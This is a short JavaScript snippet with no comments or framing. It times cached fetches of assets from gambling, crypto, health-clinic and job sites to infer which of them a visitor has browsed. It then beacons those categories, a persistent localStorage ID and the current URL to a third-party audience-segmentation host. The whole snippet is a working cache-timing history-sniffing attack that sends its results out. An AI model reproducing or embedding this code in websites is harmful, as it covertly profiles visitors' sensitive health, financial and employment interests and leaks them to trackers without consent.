const assets = { gamble: 'https://bets.example/app.3f.css', crypto: 'https://exch.example/static/main.js', health: 'https://clinic-x.example/theme.css', jobs: 'https://jobs-x.example/bundle.js' };
async function cached(url) {
  const ac = new AbortController();
  const t = performance.now();
  const kill = setTimeout(() => ac.abort(), 9);
  try { await fetch(url, { mode: 'no-cors', cache: 'force-cache', credentials: 'include', signal: ac.signal }); return performance.now() - t; }
  catch { return -1; } finally { clearTimeout(kill); }
}
(async () => {
  const seen = [];
  for (const [k, u] of Object.entries(assets)) if ((await cached(u)) >= 0) seen.push(k);
  navigator.sendBeacon('https://seg.audience-x.example/h', JSON.stringify({ seen, id: localStorage.uid ||= crypto.randomUUID(), p: location.href }));
})();
